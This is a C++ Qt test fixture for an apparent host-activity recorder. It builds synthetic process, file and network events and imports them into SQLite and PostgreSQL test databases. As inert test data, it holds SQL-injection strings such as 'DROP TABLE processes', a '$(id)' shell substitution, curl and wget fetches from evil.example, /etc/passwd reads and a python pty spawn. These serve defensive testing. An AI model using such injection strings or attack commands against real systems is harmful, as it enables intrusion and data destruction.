// SPDX-License-Identifier: GPL-3.0-or-later
#include "queryfixture.h"

#include "pgcluster.h"

#include <QDir>
#include <QTest>

using namespace Qt::StringLiterals;

namespace Deck::TestSupport {

namespace Test = Flight::TestSupport;

namespace {

// Boot of the sample host: one hour before kBaseTs, 100 ticks a second.
constexpr qint64 kTicksBeforeBase = 360000;

qint64 startMsOf(qint64 pid)
{
    switch (pid) {
    case 100:
        return -5000;
    case 200:
        return 10;
    case 300:
        return 20;
    case 301:
        return 30;
    case 400:
        return 1010;
    case 401:
        return 1040;
    case 500:
        return 10;
    default:
        return -10000; // pid 1
    }
}

ProcKey key(qint64 pid)
{
    return {pid, kTicksBeforeBase + startMsOf(pid) / 10};
}

Event event(qint64 ms, EventBody body)
{
    return Event{QueryScenario::at(ms), Test::kBaseMono + ms * 1000000, std::move(body)};
}

Event exec(qint64 pid, qint64 ppid, const QString &comm, const QList<QByteArray> &argv)
{
    ProcExec e;
    e.proc = key(pid);
    e.parent = key(ppid);
    e.comm = comm;
    e.exe = argv.value(0);
    e.argv = argv;
    e.cwd = QByteArray("/root");
    e.uid = e.euid = 1000;
    return event(startMsOf(pid), e);
}

Event file(qint64 ms, qint64 pid, FileOp op, const QByteArray &path)
{
    FileAccess f;
    f.proc = key(pid);
    f.op = op;
    f.path = path;
    return event(ms, f);
}

Event connect(qint64 ms, qint64 pid, const QString &local, const QString &raddr, qint64 rport)
{
    NetEndpoint n;
    n.proc = key(pid);
    n.op = NetOp::Connect;
    n.local = {local, 40000 + pid % 1000};
    n.remote = Endpoint{raddr, rport};
    return event(ms, n);
}

Event exit(qint64 ms, qint64 pid)
{
    return event(ms, ProcExit{key(pid), 0, std::nullopt, false});
}

Event recStart(qint64 ms)
{
    return event(ms, RecorderStart{u"0.1.0"_s, 77, {Backend{u"proc"_s, u"ebpf"_s, false, QString()}}});
}

} // namespace

qint64 QueryScenario::at(qint64 ms)
{
    return Test::kBaseTs + ms * 1000000;
}

QString QueryScenario::hostileComm()
{
    return u"x'); DROP TABLE processes; --\"\n\t\\%_*?"_s;
}

QList<QByteArray> QueryScenario::hostileArgv()
{
    return {"/bin/sh", "-c", "echo '; DELETE FROM hosts;\n\"$(id)\" \\x00 ?", "", "\xff\xfe"};
}

QByteArray QueryScenario::hostilePath()
{
    return QByteArray("/tmp/'; DROP TABLE paths; --\n\\N\t\"quoted\" %_*?[x]\xff");
}

QueryScenario::QueryScenario(const QString &dir, const QString &suffix)
    : alpha(dir, u"alpha"_s + suffix)
    , beta(dir, u"beta"_s + suffix)
{
    StateChange change;
    change.check = u"modules"_s;
    change.severity = Severity::Medium;
    change.added = {StateItem{u"evil_mod"_s, {}}};
    RecorderLoss loss;
    loss.source = u"proc.ebpf"_s;
    loss.count = 17;
    loss.reason = u"ring buffer full"_s;
    loss.lastTs = at(115);
    loss.lastMono = Test::kBaseMono + 115 * 1000000;
    ProcSnapshot sshd;
    sshd.proc = key(100);
    sshd.parent = key(1);
    sshd.comm = u"sshd"_s;
    sshd.exe = QByteArray("/usr/sbin/sshd");
    sshd.argv = {"sshd: root@pts/0"};

    archives << alpha.next(
        {recStart(0), exec(200, 100, u"bash"_s, {"/bin/bash"}),
         exec(300, 200, u"curl"_s, {"/usr/bin/curl", "http://evil.example/x"}),
         exec(301, 200, hostileComm(), hostileArgv()), file(40, 300, FileOp::Open, "/etc/passwd"),
         file(50, 300, FileOp::Write, "/tmp/drop/a.sh"), file(60, 301, FileOp::Create, "/tmp/drop/b.bin"),
         file(70, 301, FileOp::Create, hostilePath()), connect(80, 300, u"10.0.0.2"_s, u"203.0.113.5"_s, 443),
         event(90, change), exit(100, 300), event(110, loss), event(120, RecorderStop{u"shutdown"_s})});
    archives << alpha.next({recStart(1000), event(1000, sshd),
                            exec(400, 200, u"python3"_s, {"/usr/bin/python3", "-c", "import pty"}),
                            connect(1020, 400, u"10.0.0.2"_s, u"198.51.100.7"_s, 22),
                            file(1030, 400, FileOp::Open, "/etc/passwd"), exec(401, 400, u"sh"_s, {"/bin/sh"})});
    alpha.next({recStart(3000)}); // seq 3: written, never imported
    archives << alpha.next({recStart(5000), exit(5010, 200), file(5020, 401, FileOp::Open, "/var/log/x")});
    archives << beta.next({exec(500, 1, u"wget"_s, {"/usr/bin/wget", "http://evil.example/y"}),
                           connect(85, 500, u"10.0.0.9"_s, u"203.0.113.5"_s, 443)});
}

Flight::Expected<std::unique_ptr<Core::Database>> openScenarioCase(const QString &location, const QString &folder,
                                                                   const QString &suffix)
{
    auto opened = Core::Database::open(location);
    if (!opened)
        return opened.error();
    QueryScenario scenario(folder, suffix);
    if (const QString error = trustAndImport(**opened, {&scenario.alpha, &scenario.beta}, scenario.archives);
        !error.isEmpty())
        return Flight::Error{error};
    return std::move(*opened);
}

ScenarioCases::ScenarioCases()
    : m_pg(std::make_unique<PgCluster>())
{
    if (const QString failure = m_pg->start(); !failure.isEmpty()) {
        m_pg.reset();
        qWarning("PostgreSQL cluster: %s", qPrintable(failure));
    }
}

ScenarioCases::~ScenarioCases() = default;

void ScenarioCases::addEngineRows()
{
    QTest::addColumn<QString>("engine");
    QTest::newRow("sqlite") << u"sqlite"_s;
    QTest::newRow("postgresql") << u"postgresql"_s;
}

Core::Database *ScenarioCases::get(const QString &engine, QString *error)
{
    auto &db = m_cases[engine];
    if (db)
        return db.get();
    QString location = m_dir.filePath(u"scenario.flightcase"_s);
    if (engine == "postgresql"_L1) {
        location = m_pg ? m_pg->createDatabase(u"scenario"_s, error) : QString();
        if (location.isEmpty())
            return nullptr;
    }
    const QString folder = m_dir.filePath(engine);
    QDir().mkpath(folder);
    auto opened = openScenarioCase(location, folder);
    if (!opened) {
        *error = opened.error().message;
        return nullptr;
    }
    db = std::move(*opened);
    return db.get();
}

FreshCases::FreshCases()
    : m_pg(std::make_unique<PgCluster>())
{
    if (const QString failure = m_pg->start(); !failure.isEmpty()) {
        m_pg.reset();
        qWarning("PostgreSQL cluster: %s", qPrintable(failure));
    }
}

FreshCases::~FreshCases() = default;

Flight::Expected<QString> FreshCases::create(const QString &engine, const QString &prefix, QString *name)
{
    *name = prefix + QString::number(++m_made);
    if (engine != "postgresql"_L1)
        return m_dir.filePath(*name + u".sqlite"_s);
    QString error;
    const QString location = m_pg ? m_pg->createDatabase(*name, &error) : QString();
    if (location.isEmpty())
        return Flight::Error{m_pg ? error : u"PostgreSQL could not be started (see the warning above)"_s};
    return location;
}

Flight::Expected<std::unique_ptr<Core::Database>> FreshCases::open(const QString &engine, const QString &prefix,
                                                                 QString *name)
{
    auto location = create(engine, prefix, name);
    if (!location)
        return location.error();
    return Core::Database::open(*location);
}

} // namespace Deck::TestSupport
